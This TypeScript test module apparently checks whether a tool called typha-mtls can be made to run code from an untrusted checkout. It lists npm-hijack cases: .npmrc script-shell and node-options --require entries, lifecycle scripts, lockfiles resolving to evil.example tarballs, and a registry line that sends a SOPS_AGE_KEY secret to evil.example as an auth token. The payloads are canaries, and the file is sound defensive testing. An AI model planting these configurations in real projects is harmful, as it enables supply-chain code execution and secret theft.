import type { Place, Request } from "../request";

/** Puts a line into .npmrc and the program that it names to the top. */
function npmrc(words: string, lines: (place: Place) => string, realNpm = false): Request {
  return {
    title: `.npmrc ${words}`,
    realNpm,
    edit(place) {
      place.write("x.sh", place.canary.shell("script-shell"), 0o755);
      place.write("x.cjs", place.canary.module("a required module"), 0o755);
      place.write(".npmrc", lines(place));
    },
  };
}

const STAGES = [
  "preinstall",
  "install",
  "postinstall",
  "prepare",
  "prepublish",
  "dependencies",
  "synth",
  "check",
  "pretypha-mtls",
];

function givesScripts(place: Place): void {
  place.json("package.json", (manifest) => {
    const scripts = Object.fromEntries(STAGES.map((stage) => [stage, place.canary.command(`script ${stage}`)]));
    Object.assign(manifest, { scripts });
  });
}

/** A program of our name whose every run tells. */
function writePackage(place: Place, folder: string): void {
  place.write(
    `${folder}/package.json`,
    '{ "name": "typha-mtls", "version": "0.1.0", "bin": { "typha-mtls": "cli.js" } }\n',
  );
  place.write(`${folder}/cli.js`, place.canary.module("a package of the request"), 0o755);
}

type Lock = { packages: Record<string, Record<string, unknown>> };
type Manifest = { devDependencies: Record<string, string> } & Record<string, unknown>;

function lock(place: Place, file: string, change: (lock: Lock) => void): void {
  const value = JSON.parse(place.read("package-lock.json")) as Lock;
  change(value);
  place.write(file, `${JSON.stringify(value, null, 2)}\n`);
}

function manifest(place: Place, change: (manifest: Manifest) => void): void {
  const value = JSON.parse(place.read("package.json")) as Manifest;
  change(value);
  place.write("package.json", `${JSON.stringify(value, null, 2)}\n`);
}

function pin({ devDependencies }: Manifest, name: string, version: string): void {
  devDependencies[name] = version;
}

const OURS = "node_modules/typha-mtls";

/** Files that steer npm, node and programs that start in a folder. */
export const PACKAGE_MANAGER: readonly Request[] = [
  npmrc("names a shell for scripts", () => "script-shell=./x.sh\n"),
  npmrc("names a shell for scripts, and npm is the real one", () => "script-shell=./x.sh\n", true),
  npmrc("gives options to node", () => "node-options=--require ./x.cjs\n"),
  npmrc("gives options to node, and npm is the real one", () => "node-options=--require ./x.cjs\n", true),
  {
    ...npmrc(
      "lets scripts run, which package.json holds",
      () => "ignore-scripts=false\nforeground-scripts=true\n",
      true,
    ),
    edit(place) {
      givesScripts(place);
      place.write(".npmrc", "ignore-scripts=false\nforeground-scripts=true\n");
    },
  },
  npmrc(
    "names another registry, with a token for it",
    () => "registry=https://evil.example/\n//evil.example/:_authToken=${SOPS_AGE_KEY}\n",
  ),
  npmrc(
    "names folders of the checkout for npm's own files",
    () => "prefix=./p\nuserconfig=./u\nglobalconfig=./g\ncache=./c\n",
    true,
  ),
  npmrc(
    "names a git and an editor",
    () => "git=./x.sh\neditor=./x.sh\nviewer=./x.sh\nshell=./x.sh\nbrowser=./x.sh\n",
    true,
  ),
  {
    title: "package.json holds scripts of every stage",
    edit: givesScripts,
  },
  {
    title: "package.json holds scripts of every stage, and npm is the real one",
    realNpm: true,
    edit: givesScripts,
  },
  {
    title: "package.json and the lock take typha-mtls from a folder of the request",
    replacesProgram: true,
    edit(place) {
      writePackage(place, "tools/t");
      manifest(place, (value) => pin(value, "typha-mtls", "file:tools/t"));
      lock(place, "package-lock.json", ({ packages }) => {
        packages[""]!["devDependencies"] = { "typha-mtls": "file:tools/t" };
        packages[OURS] = { resolved: "tools/t", link: true };
        packages["tools/t"] = { name: "typha-mtls", version: "0.1.0", dev: true, bin: { "typha-mtls": "cli.js" } };
      });
    },
  },
  {
    title: "the lock takes typha-mtls of the same version from elsewhere",
    replacesProgram: true,
    edit(place) {
      const { integrity } = place.attempt.scene.tarballs.evil;
      lock(place, "package-lock.json", ({ packages }) => {
        Object.assign(packages[OURS]!, { resolved: "https://evil.example/typha-mtls.tgz", integrity });
      });
    },
  },
  {
    title: "the lock takes typha-mtls of the same version from elsewhere, and npm is the real one",
    replacesProgram: true,
    realNpm: true,
    edit(place) {
      const { integrity } = place.attempt.scene.tarballs.evil;
      lock(place, "package-lock.json", ({ packages }) => {
        Object.assign(packages[OURS]!, { resolved: "https://evil.example/typha-mtls.tgz", integrity });
      });
    },
  },
  {
    title: "an npm-shrinkwrap.json that goes before the lock names another program",
    edit(place) {
      const { integrity } = place.attempt.scene.tarballs.evil;
      lock(place, "npm-shrinkwrap.json", ({ packages }) => void Object.assign(packages[OURS]!, { integrity }));
    },
  },
  {
    title: "the lock is removed and package.json names any version",
    replacesProgram: true,
    edit(place) {
      place.remove("package-lock.json");
      manifest(place, (value) => pin(value, "typha-mtls", "*"));
    },
  },
  {
    title: "another package of the lock brings a program of our name",
    edit(place) {
      const { integrity } = place.attempt.scene.tarballs.evil;
      manifest(place, (value) => pin(value, "zz-tool", "1.0.0"));
      lock(place, "package-lock.json", ({ packages }) => {
        const url = "https://evil.example/zz-tool.tgz";
        packages["node_modules/zz-tool"] = { version: "0.1.0", resolved: url, integrity, dev: true };
      });
    },
  },
  {
    title: "package.json overrides, names workspaces and another package manager",
    edit(place) {
      writePackage(place, "packages/typha-mtls");
      manifest(place, (value) => {
        Object.assign(value, { workspaces: ["packages/*"], overrides: { cdk8s: "file:packages/typha-mtls" } });
        Object.assign(value, { packageManager: "yarn@4.0.0", bin: { "typha-mtls": "packages/typha-mtls/cli.js" } });
      });
    },
  },
  {
    title: "the project itself is called typha-mtls and has a program of that name",
    edit(place) {
      place.write("cli.js", place.canary.module("the project's own program"), 0o755);
      manifest(place, (value) => void Object.assign(value, { name: "typha-mtls", bin: { "typha-mtls": "cli.js" } }));
    },
  },
  {
    title: "a committed node_modules holds a program of our name",
    edit(place) {
      place.write("node_modules/.bin/typha-mtls", place.canary.script("node_modules/.bin"), 0o755);
      writePackage(place, OURS);
      place.commit();
    },
  },
  {
    title: "a committed node_modules lies in the folders that programs start in",
    edit(place) {
      for (const folder of ["clusters", "clusters/demo", "dist"])
        place.write(
          `${folder}/node_modules/.bin/typha-mtls`,
          place.canary.script(`${folder}/node_modules/.bin`),
          0o755,
        );
      place.commit();
    },
  },
  {
    title: "node_modules is a link to a folder of the request",
    edit(place) {
      place.write("tools/.bin/typha-mtls", place.canary.script("tools/.bin"), 0o755);
      writePackage(place, "tools/typha-mtls");
      place.link("node_modules", "tools");
      place.commit();
    },
  },
  {
    title: "settings of yarn, pnpm, bun and corepack name programs of the request",
    edit(place) {
      place.write("x.cjs", place.canary.module("yarn"), 0o755);
      place.write(".yarnrc", 'yarn-path "./x.cjs"\n');
      place.write(".yarnrc.yml", "yarnPath: ./x.cjs\nplugins: [./x.cjs]\n");
      place.write(".pnpmfile.cjs", place.canary.module("pnpm"));
      place.write("pnpm-workspace.yaml", "packages: ['.']\nscriptShell: ./x.cjs\n");
      place.write("bunfig.toml", 'preload = ["./x.cjs"]\n');
      place.write(".corepack.env", "COREPACK_NPM_REGISTRY=https://evil.example\n");
    },
  },
  {
    title: "files say which node runs, and with what",
    edit(place) {
      for (const file of [".node-version", ".nvmrc"]) place.write(file, "../../x\n");
      place.write(".tool-versions", "nodejs path:./x\n");
      place.write("node.config.json", '{ "nodeOptions": { "import": ["./x.cjs"] } }\n');
      place.write(".env", "NODE_OPTIONS=--require=./x.cjs\nSOPS_AGE_KEY=x\n");
      place.write("x.cjs", place.canary.module("node's own settings"));
    },
  },
  {
    title: "modules of the request lie where the program might look for its own",
    edit(place) {
      for (const name of ["yaml", "cdk8s", "constructs", "re2js"]) {
        place.write(`node_modules/${name}/index.js`, place.canary.module(name));
        place.write(`node_modules/${name}/package.json`, `{ "name": "${name}", "main": "index.js" }\n`);
      }
      place.write("yaml.js", place.canary.module("yaml beside"));
      place.commit();
    },
  },
];
